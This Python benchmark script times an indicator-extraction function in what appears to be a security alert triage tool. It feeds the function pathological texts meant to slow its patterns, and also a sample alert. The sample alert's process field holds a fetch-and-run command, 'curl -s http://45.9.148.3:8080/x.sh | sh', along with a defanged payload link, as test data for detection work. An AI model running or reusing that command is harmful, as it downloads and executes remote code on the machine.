"""Indicator extraction: time of a typical alert, and of hostile texts as they double.

Run: python -m benchmarks.extraction. Promises: 100 KB of any text within 100 ms, at most 2.5 times per doubling,
a typical alert of 1.5 KB within 0.3 ms. Times are CPU time, the best of several runs.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from itertools import pairwise

from triage.indicators.extract import extract
from triage.model.alert import Alert

SIZES = (12_500, 25_000, 50_000, 100_000)
HOSTILE: dict[str, Callable[[int], str]] = {
    "a run of one letter": lambda n: "a" * n,
    "labels of one letter": lambda n: "a." * (n // 2),
    "words of labels": lambda n: ("a." * 120 + " ") * (n // 241),
    "at-signs": lambda n: "a@" * (n // 2),
    "mail-like words": lambda n: ("a" * 64 + "@" + "b" * 60 + " ") * (n // 126),
    "figures and dots": lambda n: "1." * (n // 2),
    "addresses, all different": lambda n: "".join(
        f"{45 + i % 50}.{i % 251}.{i // 251 % 256}.7 " for i in range(n // 12)
    ),
    "names, all different": lambda n: "".join(f"host{i}.evil{i}.com " for i in range(n // 20)),
    "colons": lambda n: ("::" * 20 + " ") * (n // 41),
    "address-like groups": lambda n: ("2001:db8:" * 4 + "z ") * (n // 38),
    "schemes": lambda n: "http://" * (n // 7),
    "links of 2,000 characters": lambda n: ("http://evil.com/" + "a@" * 990 + " ") * (n // 1997),
    "links that end in brackets": lambda n: ("http://evil.com/" + ")" * 1900 + " ") * (n // 1917),
    "links in a comma list": lambda n: "http://a.com/x," * (n // 15),
    "encoded links": lambda n: "x?u=http%3A%2F%2Fevil.com%2F " * (n // 29),
    "opened brackets": lambda n: "[" * n,
    "defanged dots": lambda n: "evil[.]com " * (n // 11),
    "almost defanged": lambda n: "[ . [dot (at " * (n // 13),
    "hexadecimal words": lambda n: ("md5 " + "0a" * 16 + " ") * (n // 37),
    "key and value chains": lambda n: "a:" * (n // 2),
    "short key and value chains": lambda n: "a:b:c:d:e.x " * (n // 12),
    "wide dots": lambda n: "a．" * (n // 2),
    "backslashes": lambda n: "\\" * n,
    "packed brackets": lambda n: "[" + "[]," * (n // 3) + "[]]",
    "almost CVE ids": lambda n: "CVE-2021-" * (n // 9),
}
TYPICAL = {
    "user": "j.doe", "source_ip": "185.220.101.52", "destination_ip": "10.0.0.5", "failed_logins": 12, "success": True,
    "time": "2026-01-01T02:13:00Z", "location": "Moscow, RU", "severity": "high", "alert_type": "brute_force",
    "message": "Failed password for j.doe from 185.220.101.52 port 50432 ssh2, then success; hxxp://evil[.]com/a.sh",
    "host": {"name": "web-01.corp.local", "os": "Linux", "ip": ["10.0.0.5", "fe80::1"]},
    "process": {
        "name": "bash", "command_line": "bash -c 'curl -s http://45.9.148.3:8080/x.sh | sh'", "pid": 4412,
        "hash": {"sha256": "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"},
    },
    "rule": {
        "id": "5712", "level": 10, "description": "sshd: brute force trying to get access to the system.",
        "groups": ["syslog", "sshd", "authentication_failures"], "mitre": {"id": ["T1110"], "tactic": ["Credential"]},
    },
    "http": {"hostname": "update.evil-cdn.net", "url": "/a.sh", "user_agent": "curl/7.61.1", "status": 200},
    "agent": {"id": "002", "name": "Ubuntu", "ip": "10.0.1.85"},
    "full_log": "Apr 17 00:18:20 gate sshd[10629]: Failed password for invalid user admin from 45.9.148.99 port 4928",
    "decoder": {"parent": "sshd", "name": "sshd"}, "location_file": "/var/log/auth.log", "id": "1587082700.80945",
    "labels": {"site": "north", "owner": "team-blue", "criticality": "medium", "environment": "production"},
}  # fmt: skip


def seconds(alert: Alert, runs: int, times: int = 1) -> float:
    """CPU seconds of one extraction, the best of `runs` rounds of `times`."""
    best = float("inf")
    for _ in range(runs):
        started = time.process_time()
        for _ in range(times):
            extract(alert)
        best = min(best, (time.process_time() - started) / times)
    return best


def row(name: str, text_of: Callable[[int], str]) -> None:
    """Print the time at each size and the ratios of the doublings."""
    spent = [seconds(Alert(name="x", raw={"message": text_of(size)}), runs=3) for size in SIZES]
    ratios = [later / max(earlier, 1e-6) for earlier, later in pairwise(spent)]
    shown = " ".join(f"{value * 1000:8.2f}" for value in spent)
    print(f"{name:30} {shown}   " + " ".join(f"{ratio:5.2f}" for ratio in ratios))


def main() -> None:
    print(f"{'hostile text':30} " + " ".join(f"{size // 1000:5} KB" for size in SIZES) + " (ms)   ratio per doubling")
    for name, text_of in HOSTILE.items():
        row(name, text_of)
    alert = Alert(name="x", raw=TYPICAL, source_ip="185.220.101.52", message=str(TYPICAL["message"]))
    print(f"typical alert, {len(str(TYPICAL))} characters: {seconds(alert, 7, 200) * 1e6:.0f} µs")


if __name__ == "__main__":
    main()
